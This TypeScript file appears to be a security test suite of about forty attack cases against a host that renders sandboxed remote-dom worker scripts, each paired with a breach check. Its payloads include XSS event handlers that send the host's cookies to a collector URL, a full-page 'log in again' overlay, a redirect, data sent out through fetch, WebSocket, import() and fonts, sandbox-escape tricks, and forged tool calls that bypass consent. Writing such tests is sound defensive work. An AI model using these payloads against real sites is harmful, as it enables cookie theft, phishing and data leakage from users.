// Remote-DOM scripts: the host draws them in its own page, so every element and property may be a way into it; and they run in a worker,
// which has a network and a storage of its own.
import type { Attack } from '../attack.ts';
import { leak, ofClass } from './define.ts';

const define = ofClass('remote-dom', 'network');
const attack = (id: string, title: string, rest: Parameters<typeof define>[2]): Attack =>
  define(id, title, { form: 'remote-dom', ...rest });

const WAIT = 'await A.wait(1000)';

/** Makes one element with attributes, set in every way that a script has. */
const draw = (tag: string, attributes: string): string => `
  const element = document.createElement('${tag}');
  for (const [name, value] of Object.entries(${attributes})) {
    element.setAttribute(name, value);
    try { element[name] = value } catch {}
  }
  root.append(element);
  ${WAIT}`;

/** Code for a handler in the host's page: it sends a cookie of the host to the collector. */
const HANDLER = `"new Image().src = '" + ${leak('handler')} + "?' + encodeURIComponent(document.cookie)"`;
const gotSecret: NonNullable<Attack['breach']> = ({ network }) =>
  network.some(({ detail }) => detail.includes('HOST-SECRET'));

export const ATTACKS: readonly Attack[] = [
  attack('rd01', 'an image of another site, over http', { script: draw('ui-image', `{ src: ${leak('image')} }`) }),
  attack('rd02', 'an image of another site, over https', {
    script: draw('ui-image', `{ src: ${leak('image', 'https')} }`),
    settleMs: 500,
  }),
  attack('rd03', 'an img of the browser’s own', { script: draw('img', `{ src: ${leak('native')} }`) }),
  attack('rd04', 'a frame', { script: draw('iframe', `{ src: ${leak('frame')} }`) }),
  attack('rd05', 'a stylesheet', { script: draw('link', `{ rel: 'stylesheet', href: ${leak('style.css')} }`) }),
  attack('rd06', 'a style element', {
    script: `
      const style = document.createElement('style');
      style.append(document.createTextNode('@import "' + ${leak('import.css')} + '"; body { background: url(' + ${leak('background')} + ') }'));
      root.append(style);
      ${WAIT}`,
  }),
  attack('rd07', 'an img with a handler', {
    script: draw('img', `{ src: 'nowhere:', onerror: ${HANDLER} }`),
    breach: gotSecret,
  }),
  attack('rd08', 'an element of the host with a handler', {
    script: draw('ui-image', `{ src: 'nowhere:', onerror: ${HANDLER} }`),
    breach: gotSecret,
  }),
  attack('rd09', 'handlers that need no event of a user', {
    script: `
      const html = '<details open ontoggle="X"></details><svg onload="X"></svg><input autofocus onfocus="X"><video src="x:" onerror="X"></video>';
      root.innerHTML = html.replaceAll('X', (${HANDLER}).replaceAll('"', '&quot;'));
      ${WAIT}`,
    breach: gotSecret,
  }),
  attack('rd10', 'markup in the label of a button', {
    script: draw('ui-button', `{ label: '<img src="nowhere:" onerror="' + ${HANDLER} + '">' }`),
    breach: gotSecret,
  }),
  attack('rd11', 'markup in a text', {
    script: draw('ui-text', `{ content: '<img src="nowhere:" onerror="' + ${HANDLER} + '">' }`),
    breach: gotSecret,
  }),
  attack('rd12', 'markup by innerHTML of an element', {
    script: `
      const card = document.createElement('ui-card');
      root.append(card);
      card.innerHTML = '<img src="' + ${leak('inner')} + '">';
      ${WAIT}`,
  }),
  attack('rd13', 'a style that covers the page', {
    observe: 'host',
    script: `
      const card = document.createElement('ui-card');
      card.setAttribute('style', 'position:fixed;inset:0;z-index:99999;background:#fff');
      card.append(document.createTextNode('log in again'));
      root.append(card);
      ${WAIT}`,
    breach: ({ before, after }) => !before.covered && after.covered,
    alone: true,
  }),
  attack('rd14', 'a style that asks another site', {
    script: draw('ui-card', `{ style: 'background: url(' + ${leak('style')} + ')' }`),
  }),
  attack('rd15', 'a class of the host’s', {
    observe: 'host',
    script: draw(
      'ui-card',
      `{ class: 'over fullscreen vitrine-fullscreen', className: 'over', part: 'over', slot: 'over' }`,
    ),
    breach: ({ before, after }) => !before.covered && after.covered,
    alone: true,
  }),
  attack('rd16', 'a refresh of the host’s page', {
    observe: 'host',
    script: draw('meta', `{ 'http-equiv': 'refresh', content: '0;url=' + ${leak('refresh')} }`),
    breach: ({ before, after }) => before.url !== after.url,
    alone: true,
    settleMs: 500,
  }),
  attack('rd17', 'an SVG that asks another site', {
    script: `
      root.innerHTML = '<svg><image href="' + ${leak('svg')} + '"></image><use href="' + ${leak('use.svg')} + '#a"></use></svg>';
      ${WAIT}`,
  }),
  attack('rd18', 'sizes that cover the page', {
    observe: 'host',
    script: `
      const image = document.createElement('ui-image');
      const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
      for (const [name, value] of Object.entries({ src: pixel, width: '99999', height: '9999999', style: 'position:fixed;inset:0' })) image.setAttribute(name, value);
      root.append(image);
      ${WAIT}`,
    breach: ({ after, before }) => after.covered && !before.covered,
    alone: true,
  }),
  attack('rd20', '100,000 nodes', {
    observe: 'host',
    script: `
      for (let n = 0; n < 100; n++) {
        const card = document.createElement('ui-card');
        for (let m = 0; m < 1000; m++) {
          const text = document.createElement('ui-text');
          text.append(document.createTextNode(A.token + ' '));
          card.append(text);
        }
        root.append(card);
      }
      await A.wait(2500);`,
    breach: ({ after, token }) => after.text.split(token).length > 20_000,
    alone: true,
  }),
  attack('rd21', 'a text of 5 MB', {
    observe: 'host',
    script: `
      const text = document.createElement('ui-text');
      text.append(document.createTextNode(A.token.repeat(5e6 / A.token.length)));
      root.append(text);
      await A.wait(2000);`,
    breach: ({ after, token }) => after.text.split(token).length > 100_000,
    alone: true,
  }),
  attack('rd22', 'an endless loop', {
    observe: 'host',
    script: `
      await A.wait(300);
      const from = Date.now();
      while (Date.now() - from < 2500);
      A.note([from, Date.now()]);`,
    breach: ({ notes, hostTicks }) => {
      const [from = 0, to = 0] = (notes[0] ?? []) as number[];
      return to - from > 1500 && hostTicks(from + 200, to - 200) < (to - from - 400) / 25 / 10;
    },
    alone: true,
  }),
  attack('rd30', 'fetch', { script: `await fetch(${leak('fetch')}, { mode: 'no-cors' })` }),
  attack('rd31', 'XMLHttpRequest', {
    script: `
      const request = new XMLHttpRequest();
      request.open('GET', ${leak('xhr')});
      request.send();
      ${WAIT}`,
  }),
  attack('rd32', 'WebSocket', { script: `new WebSocket(${leak('socket', 'ws')}); ${WAIT}` }),
  attack('rd33', 'EventSource', { script: `new EventSource(${leak('events')}); ${WAIT}` }),
  attack('rd34', 'import()', { script: `await import(${leak('module.js')}).catch(() => {}); ${WAIT}` }),
  attack('rd35', 'a worker of its own that fetches', {
    script: `
      const code = 'fetch("' + ${leak('nested')} + '", { mode: "no-cors" })';
      const address = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
      // A removed global may still be reachable by its constructor.
      const Nested = globalThis.Worker ?? Object.getPrototypeOf(globalThis).constructor.Worker;
      new Nested(address);
      ${WAIT}`,
  }),
  attack('rd36', 'importScripts', {
    script: `
      const scope = globalThis.WorkerGlobalScope?.prototype;
      const load = globalThis.importScripts ?? scope?.importScripts;
      if (load) load.call(globalThis, ${leak('imported.js')});
      else new Worker(URL.createObjectURL(new Blob(['importScripts("' + ${leak('imported.js')} + '")'], { type: 'text/javascript' })));
      ${WAIT}`,
  }),
  attack('rd37', 'a font, loaded by script', {
    script: `await new FontFace('leak', 'url(' + ${leak('font')} + ')').load().catch(() => {}); ${WAIT}`,
  }),
  attack('rd38', 'the name of a site that is only asked for', {
    script: `
      fetch('http://remote.' + A.name).catch(() => {});
      new WebSocket('ws://remote-socket.' + A.name);
      ${WAIT}`,
  }),
  attack('rd40', 'an IndexedDB', {
    observe: 'frame',
    script: `
      A.report(await new Promise((resolve, reject) => {
        const request = indexedDB.open(A.token);
        request.onsuccess = () => resolve(request.result.name);
        request.onerror = () => reject(request.error);
      }));`,
  }),
  attack('rd41', 'caches, and files of its origin', {
    observe: 'frame',
    script: `
      for (const open of [
        async () => (await caches.open(A.token), 'cache'),
        async () => (await navigator.storage.getDirectory()).name + 'folder',
        async () => JSON.stringify(await cookieStore.getAll()),
        async () => JSON.stringify(await navigator.locks.query()),
      ]) await open().then(A.report, error => A.note(String(error)));`,
  }),
  attack('rd42', 'the host’s API', {
    observe: 'host',
    script: `await fetch(A.hostApi, { mode: 'no-cors', credentials: 'include' }).catch(() => {}); ${WAIT}`,
    breach: ({ hostRequests }) => hostRequests.some(({ status }) => status < 400),
  }),
  attack('rd43', 'a tool that needs consent, and one of another server', {
    observe: 'host',
    script: `
      parent.postMessage({ type: 'tool', payload: { toolName: 'app_write', params: { token: A.token } } }, '*');
      parent.postMessage({ type: 'tool', payload: { toolName: 'victim/write', server: 'victim', params: { token: A.token } } }, '*');
      ${WAIT}`,
    breach: ({ calls }) => calls.length > 0,
  }),
  attack('rd44', 'speaks the drawing’s own wire', {
    script: `
      const post = globalThis.DedicatedWorkerGlobalScope?.prototype?.postMessage ?? Object.getPrototypeOf(globalThis).postMessage;
      const image = { id: A.token, type: 1, element: 'img', properties: { src: ${leak('wire')}, innerHTML: '<img src="' + ${leak('wire')} + '">' }, children: [] };
      for (let seq = 1; seq < 4; seq++)
        post?.call(globalThis, { type: 'vitrine-remote-dom', kind: 'mutations', seq, records: [[0, '~', image, 0]] });
      ${WAIT}`,
  }),
];
